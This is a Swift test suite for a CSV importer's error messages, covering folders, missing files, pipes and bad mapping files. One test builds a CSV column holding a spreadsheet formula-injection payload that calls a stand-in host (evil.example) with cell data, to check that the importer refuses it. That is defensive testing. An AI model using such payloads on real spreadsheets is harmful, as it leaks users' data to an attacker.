import Foundation
import Testing
import GSPCore
@testable import GSPImport
import GSPTestSupport

/// Every import message names the file, the line when there is one, what is wrong and what to do.
@Suite struct ImportMessageTests {
    static let mapping = """
    { "source": "acme", "id": "Id", "fields": { "title": "Name" } }
    """

    @Test func aFolderIsNamedAsAFolder() throws {
        let dir = TemporaryDirectory()
        let error = try #require(throws: ImportError.self) { try Importer.plan(file: dir.url, mapping: nil, preset: nil) }
        #expect(error.description == "\(dir.url.path): '\(dir.url.path)' is a folder, not a CSV file: give the path of the file itself")
        let missing = try #require(throws: ImportError.self) { try Importer.plan(file: dir.url.appendingPathComponent("nope.csv"), mapping: nil, preset: nil) }
        #expect(missing.description.hasSuffix("nope.csv: no such file: check the path"))
    }

    /// Devices and pipes are read like files (a shell's <(...) works); /dev/null is an empty
    /// file, not a "permission" problem as Foundation's Data(contentsOf:) claimed.
    @Test func aDeviceOrPipeIsReadLikeAFile() throws {
        let empty = try #require(throws: ImportError.self) { try Importer.plan(file: URL(fileURLWithPath: "/dev/null"), mapping: nil, preset: nil) }
        #expect(empty.description == "/dev/null:1: the file is empty: a header row is needed", "\(empty.description)")
        let dir = TemporaryDirectory()
        let fifo = dir.path("deals.csv")
        try #require(mkfifo(fifo, 0o600) == 0)
        let mapping = try dir.write(Self.mapping, to: "m.json")
        let writer = Thread { try? FileHandle(forWritingTo: URL(fileURLWithPath: fifo)).write(contentsOf: Data("Id,Name\nd1,Fleet\n".utf8)) }
        writer.start()
        let plan = try Importer.plan(file: URL(fileURLWithPath: fifo), mapping: mapping, preset: nil)
        #expect(plan.records.count == 1, "\(plan.problems)")
    }

    /// A column of a gsp export becomes a field name on every replica: a formula is refused.
    @Test func anExportColumnThatIsNotAFieldNameIsRefused() throws {
        let csv = "gsp_table,gsp_id,title,\"=HYPERLINK(\"\"http://evil.example/?\"\"&A2,\"\"click\"\")\"\r\n"
            + "deals,\(RowID().lowercased),Fleet,x\r\n"
        let error = try #require(throws: ImportError.self) { try NativeCSV.plan(try CSVTable(data: Data(csv.utf8), file: "export.csv")) }
        #expect(error.description.hasPrefix("export.csv:1: column '=HYPERLINK(") && error.description.contains("is not a field name"), "\(error.description)")
    }

    @Test func aMappingMissingAKeySaysWhatTheKeyIsFor() throws {
        let dir = TemporaryDirectory()
        let url = try dir.write(Self.mapping.replacingOccurrences(of: "\"id\": \"Id\", ", with: ""), to: "m.json")
        let error = try #require(throws: ImportError.self) { try MappingFile.load(url) }
        #expect(error.description == "mapping file \(url.path): key 'id' is missing: name the column holding each row's source id")
    }

    @Test func aMappingThatIsNotJSONOrHasTheWrongTypeIsExplained() throws {
        let dir = TemporaryDirectory()
        let broken = try #require(throws: ImportError.self) { try MappingFile.load(try dir.write("{ not json", to: "a.json")) }
        #expect(broken.reason.hasPrefix("not valid JSON") && broken.reason.contains("check the quotes"))
        let typed = try #require(throws: ImportError.self) {
            try MappingFile.load(try dir.write(Self.mapping.replacingOccurrences(of: "\"Id\"", with: "3"), to: "b.json"))
        }
        #expect(typed.reason.hasPrefix("key 'id' should be text in quotes"))
        for error in [broken, typed] { #expect(!error.description.contains("CodingKeys") && !error.description.contains(":0:")) }
    }

    @Test func anUnknownLayoutNamesTheFileAndWhatToDo() throws {
        let dir = TemporaryDirectory()
        let url = try dir.write("a,b\n1,2\n", to: "x.csv")
        let error = try #require(throws: ImportError.self) { try Importer.plan(file: url, mapping: nil, preset: nil) }
        #expect(error.description.hasPrefix("\(url.path):1: cannot tell the layout") && error.reason.contains("--mapping"))
    }
}
